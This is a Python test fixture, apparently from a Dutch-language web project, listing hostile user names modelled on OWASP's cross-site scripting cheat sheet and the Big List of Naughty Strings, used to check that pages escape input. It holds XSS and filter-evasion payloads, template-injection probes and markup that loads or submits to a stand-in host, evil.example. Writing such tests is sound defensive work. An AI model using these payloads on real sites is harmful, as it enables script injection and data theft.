"""Names nobody should have: each would run a script, break out of its place, or pass for something of ours.

After OWASP's cheat sheet on cross-site scripting and the Big List of Naughty Strings; our own selection and wording.
"""

# What a script sets when it runs. Nothing on our pages has this name.
MARK = "pwned"
_RUN = f"window.{MARK}=1"

NAMES = (
    # --- Elements and attributes
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}//",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" autofocus onfocus={_RUN} x="',
    f"' onmouseover='{_RUN}",
    f"` onmouseover=`{_RUN}`",
    f"<details open ontoggle={_RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={_RUN}>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=csrf>",
    "<object data=//evil.example/x>",
    f"<a href=javascript:{_RUN}>klik</a>",
    "<!-- niet dicht",
    "--><h1>Van iemand anders</h1>",
    "</title><h1>Van iemand anders</h1>",
    "</textarea></select></option><h1>Van iemand anders</h1>",
    "<![CDATA[<h1>Van iemand anders</h1>]]>",
    # --- Half of a tag, and tags that look otherwise
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u2028<script>{_RUN}</script>",
    # --- What is written out already must stay so
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;onload=&quot;",
    "\\u003cscript\\u003e",
    # --- Templates and formats
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}#{7*7}",
    "%(name)s %s %d 100%",
    "{0} {name!r}",
    # --- Addresses, and text that reads otherwise
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "\u202eegnaro\u202c omgekeerd",
    "\ufefflege\u200bruimte",
    "Ngiyabonga \U0001f468\u200d\U0001f469\u200d\U0001f467 z\u0335a\u0335l\u0335g\u0335o",
    "Lange" + "naam" * 40,
)
